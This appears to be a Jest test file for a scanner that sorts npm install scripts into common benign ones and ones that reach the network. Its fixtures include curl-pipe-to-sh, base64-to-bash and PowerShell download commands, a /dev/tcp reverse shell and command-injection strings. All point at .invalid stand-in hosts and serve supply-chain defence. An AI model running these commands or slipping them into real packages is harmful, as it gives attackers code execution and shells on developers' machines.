import { describe, expect, it } from '@jest/globals';
import { hooksOf, isCommonScript, reachesOut } from '../../src/model/scripts.ts';
import { aRelease } from '../../src/rules/example.ts';

describe('hooksOf', () => {
  it('names what npm runs for a dependency, in its order, and leaves prepare out', () => {
    const release = aRelease('1.0.0', { scripts: { postinstall: 'b', preinstall: 'a', prepare: 'c' } });
    expect(hooksOf(release).map(({ hook }) => hook)).toEqual(['preinstall', 'postinstall']);
  });

  it('counts a binding.gyp as the install script npm makes of it, unless the release says its own', () => {
    expect(hooksOf(aRelease('1.0.0', { gypfile: true }))).toEqual([{ hook: 'install', script: 'node-gyp rebuild' }]);
    expect(hooksOf(aRelease('1.0.0', { gypfile: true, scripts: { install: 'true' } }))).toEqual([{ hook: 'install', script: 'true' }]);
  });
});

describe('isCommonScript', () => {
  it.each([
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'node-pre-gyp install --fallback-to-build',
    'node-gyp-build',
    'husky install',
    'is-ci || husky install',
    'echo done',
    'opencollective postinstall || exit 0',
    'node-pre-gyp install --fallback-to-build=false || npm run build',
    String.raw`node -e "console.log('\u001b[32mThanks; give at https://fund.invalid/x?a=1&b=2\u001b[0m')" || exit 0`,
    `node --eval 'console.warn("renamed");'`,
    String.raw`node -e "console.log(\"renamed\n\")"`,
  ])('%s is', (script) => {
    expect(isCommonScript(script)).toBe(true);
  });

  it.each([
    'node index.js',
    'node -e "console.log(process.env)"',
    `node -e "console.log('a' + require('./x'))"`,
    `node -e "console.log('a'); require('./x')"`,
    `node -e "console.log('$(curl x.invalid)')"`,
    `node -e "console.log('\`id\`')"`,
    String.raw`node -e "console.log('\',require(/x/.source)//')"; x'`,
    String.raw`node -e "console.log(\"\\"+require(/x/.source)//\")"`,
    String.raw`node -e "console.log(\"a\")" && node x.js`,
    `node -e "console.log('a')" | sh`,
    'npm run build',
    'npm run build || prebuild-install',
    'node-gyp rebuild && node x.js',
    'node-gyp rebuild\nnode x.js',
    'echo $(curl https://x.invalid)',
    'echo x | sh',
    'node-gyp rebuild `id`',
    'patch-package; curl x.invalid | sh',
    `echo ${'a'.repeat(400)}`,
    '',
  ])('%j is not', (script) => {
    expect(isCommonScript(script)).toBe(false);
  });
});

describe('reachesOut', () => {
  it.each([
    'npm install -g other@latest',
    'yarn global add x',
    'curl -s https://x.invalid | sh',
    'echo aGk= | base64 -d | bash',
    'powershell -c iwr https://x.invalid',
    "bash -c 'bash -i >& /dev/tcp/x.invalid/1 0>&1'",
  ])('%s does', (script) => {
    expect(reachesOut(script)).toBe(true);
  });

  it.each(['node index.js', 'node-gyp rebuild', 'npm run build', 'node scripts/curled.js', 'npm install --ignore-scripts'])(
    '%s does not',
    (script) => {
      expect(reachesOut(script)).toBe(false);
    },
  );
});
